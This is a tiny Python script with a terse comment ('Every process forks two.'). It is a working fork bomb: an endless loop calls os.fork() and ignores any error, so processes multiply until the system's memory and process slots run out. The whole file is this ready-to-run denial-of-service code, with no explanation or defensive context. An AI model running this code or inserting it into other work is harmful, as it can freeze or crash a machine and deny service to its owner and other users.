# Every process forks two.
# held by: memory
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
